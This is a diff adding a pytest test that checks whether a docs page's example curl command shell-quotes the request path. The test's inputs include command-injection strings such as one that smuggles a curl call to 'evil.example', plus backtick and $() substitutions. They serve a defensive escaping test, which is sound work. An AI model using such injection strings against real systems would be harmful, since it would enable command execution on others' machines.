@@ -2,7 +2,9 @@
 
 import base64
 import hashlib
+import html
 import re
+import subprocess
 from html.parser import HTMLParser
 
 import pytest
@@ -74,6 +76,19 @@ def test_options_and_defaults_are_in_the_page() -> None:
 def test_text_of_the_document_is_escaped() -> None:
     sample = calls.event("alb", "GET", "/<b>/docs")
     assert "<b>" not in calls.call("colors", sample).text
+
+
+@pytest.mark.parametrize(
+    "path", ["/x';curl$IFS$9evil.example/i;'", "/`id`", "/$(id)", "/a;b", "/a&b", '/"', "/a b", "/\\"]
+)
+@pytest.mark.parametrize("model", ["colors", "add"])
+def test_example_command_has_the_url_as_one_word(model: str, path: str) -> None:
+    sample = calls.event("function_url", "GET", f"{path}/docs")
+    (command,) = re.findall(r"<pre.*?><code>(.*?)</code>", calls.call(model, sample).text)
+    script = f"curl() {{ printf '%s\\n' \"$@\"; }}; {html.unescape(command)}"
+    done = subprocess.run(["sh", "-c", script], capture_output=True, text=True, check=True)
+    *_, url = words = done.stdout.splitlines()
+    assert (len(words), url.startswith("https://"), done.stderr) == (5, True, "")
 
 
 def test_class_names_and_the_checksum_need_the_key() -> None:
